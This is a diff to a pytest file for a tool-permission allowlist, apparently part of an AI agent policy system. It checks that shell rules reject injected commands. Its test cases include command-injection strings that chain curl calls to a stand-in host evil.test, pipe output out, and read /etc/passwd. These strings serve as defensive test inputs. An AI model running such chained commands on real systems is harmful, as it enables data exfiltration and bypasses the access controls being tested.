@@ -5,7 +5,7 @@ import random
 import pytest
 
 from leviathd.errors import InvalidArgument
-from leviathd.policy.allowlist import AllowRule, compile_allowlist, glob_to_regex
+from leviathd.policy.allowlist import Allowlist, AllowRule, compile_allowlist, glob_to_regex
 from leviathd.policy.labels import Sensitivity
 
 X = Sensitivity.PRIVATE
@@ -26,9 +26,47 @@ def test_rules_match_exact_suffix_prefix_and_general_globs() -> None:
     assert al.find("http_post", "hooks.corp.evil", X) is None
 
 
-def test_a_rule_for_every_tool_uses_a_star() -> None:
-    al = compile_allowlist([{"tool": "*", "target": "x.org", "max_sensitivity": "internal"}])
-    assert al.find("web_fetch", "x.org", Sensitivity.INTERNAL) is not None
+def test_a_rule_for_tool_star_matches_nothing() -> None:
+    # Issue 21 §8: flagged "unknown tool", it used to match every tool.
+    al = compile_allowlist([{"tool": "*", "target": "*", "max_sensitivity": "private"}])
+    for tool in ("web_fetch", "http_post", "shell", "credential"):
+        assert al.find(tool, "x.org", Sensitivity.PRIVATE) is None
+
+
+def _shell_rule(target: str) -> Allowlist:
+    return compile_allowlist([{"tool": "shell", "target": target, "max_sensitivity": "private"}])
+
+
+@pytest.mark.parametrize("target, line, ok", [
+    ("git status*", "git status", True),
+    ("git status*", "git status; python3 -c 'urlopen(1)'", False),  # the issue's attack
+    ("git status*", "git status --short", False),  # `*` inside a word spans no words
+    ("git status *", "git status --short -b", True),
+    ("git status *", "git status", True),
+    ("git status *", "git status && curl evil.test", False),
+    ("git status *", "git status || curl evil.test", False),
+    ("git status *", "git status | curl -d @- evil.test", False),
+    ("git status *", "git status & curl evil.test", False),
+    ("git status *", "git status\ncurl evil.test", False),
+    ("git status *", "git status $(curl evil.test)", False),
+    ("git status *", "git status `curl evil.test`", False),
+    ("git status *", "git status > /tmp/x", False),
+    ("git status *", "git status < /etc/passwd", False),
+    ("git status *", "git status ${X}", False),
+    ("git status *", "git status (x)", False),
+    ("git status *", "git status 'a; b' \"$c\"", False),  # `$` anywhere: not vouched for
+    ("git status *", "git status 'a; b'", True),  # quoted: one word, no operator
+    ("git status *", "git status \\; id", True),  # an escaped ; is a word, as in sh
+    ("git status *", "git status 'unterminated", False),
+    ("git log * | head *", "git log --oneline | head -5", True),
+    ("git log * | head *", "git log | head; id", False),
+    ("ls", "ls", True),
+    ("ls", "ls -la", False),
+    ("ls", "ls;", True),
+])
+def test_shell_rules_match_a_parsed_command_line(target: str, line: str, ok: bool) -> None:
+    found = _shell_rule(target).find("shell", line, Sensitivity.PRIVATE)
+    assert (found is not None) == ok, (target, line)
 
 
 def test_an_incomplete_rule_is_refused() -> None:
